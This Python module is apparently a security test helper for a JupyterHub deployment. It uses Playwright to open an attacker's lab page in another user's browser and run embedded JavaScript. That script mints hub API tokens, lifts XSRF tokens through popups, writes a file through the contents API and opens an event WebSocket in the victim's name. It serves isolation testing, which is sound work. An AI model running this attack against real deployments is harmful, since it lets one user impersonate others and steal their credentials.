"""A hostile page of one user's lab, open in the browser of another user.

Jupyter serves its own files without a sign-in, so a link is enough to open a page on the origin of a lab.
"""

from dataclasses import dataclass
from typing import Any

from playwright.sync_api import BrowserContext

UNPROTECTED_FILE = "static/style/index.css"
TOKEN_NOTE = "made by a page of another lab"
STOLEN_FILE = "made-by-a-page-of-another-lab.txt"

_ATTACK = """
async ({hub, lab, bridge, user, note, file}) => {
  // Open a window and return what `read` finds there; nothing if the browser denies access for two seconds.
  const spy = async (url, read) => {
    const popup = window.open(url);
    let found = "";
    for (let n = 0; n < 100 && !found; n++) {
      await new Promise(done => setTimeout(done, 100));
      try { found = read(popup) || ""; } catch (error) { if (n > 20) break; }
    }
    popup.close();
    return found;
  };
  const send = async (url, method, token, body, headers = {}) => {
    const sent = {"X-XSRFToken": token, "Content-Type": "application/json", ...headers};
    try {
      return (await fetch(url, {method, body, headers: sent, credentials: "include"})).status;
    } catch { return 0; }
  };
  // A request without preflight, as a form sends it. The page cannot read the response.
  const post = (url, body) =>
    fetch(url, {method: "POST", body, mode: "no-cors", credentials: "include"}).catch(() => {});
  const attackHub = async () => {
    const url = `${hub}/hub/api/users/${user}/tokens`, body = JSON.stringify({note});
    await post(url, body);
    const token = await spy(`${hub}/hub/home`, page => page.jhdata && page.jhdata.xsrf_token);
    return {token, status: await send(url, "POST", token, body)};
  };
  const attackLab = async () => {
    const base = `${lab}/user/${user}`;
    const token = await spy(`${base}/lab`, page => (page.document.cookie.match(/_xsrf=([^;]+)/) || [])[1]);
    const body = JSON.stringify({type: "file", format: "text", content: "x"});
    await post(`${base}/api/contents`, body);
    const status = await send(`${base}/api/contents/${file}`, "PUT", token, body);
    const socket = new WebSocket(`${base.replace("https:", "wss:")}/api/events/subscribe`);
    const connected = await new Promise(done => {
      socket.onopen = () => done(true);
      socket.onerror = () => done(false);
    });
    return {token, status, connected};
  };
  const attackBridge = async () => {
    const text = page => page.location.origin === bridge && page.document.body && page.document.body.innerText;
    return {text: await spy(`${bridge}/`, text), status: await send(`${bridge}/`, "GET", "", undefined)};
  };
  const [atHub, atLab, atBridge] = await Promise.all([attackHub(), attackLab(), attackBridge()]);
  return {hub: atHub, lab: atLab, bridge: atBridge};
}
"""


@dataclass(frozen=True)
class Addresses:
    """The origins of a deployment, without a slash at the end."""

    hub: str
    bridge: str
    attacking_lab: str
    attacked_lab: str


def attack(context: BrowserContext, addresses: Addresses, *, attacker: str, user: str) -> dict[str, dict[str, Any]]:
    """Open a page of the attacker's lab in the browser of a user, and act from it in the user's name.

    Returns:
        For `hub`, `lab` and `bridge`, what the page could read there and the status that it got; 0 for none.
    """
    page = context.new_page()
    opened = page.goto(f"{addresses.attacking_lab}/user/{attacker}/{UNPROTECTED_FILE}")
    assert opened is not None
    assert (opened.status, page.url.startswith(addresses.attacking_lab)) == (200, True), page.url
    asked = {
        "hub": addresses.hub,
        "lab": addresses.attacked_lab,
        "bridge": addresses.bridge,
        "user": user,
        "note": TOKEN_NOTE,
        "file": STOLEN_FILE,
    }
    return dict(page.evaluate(_ATTACK, asked))
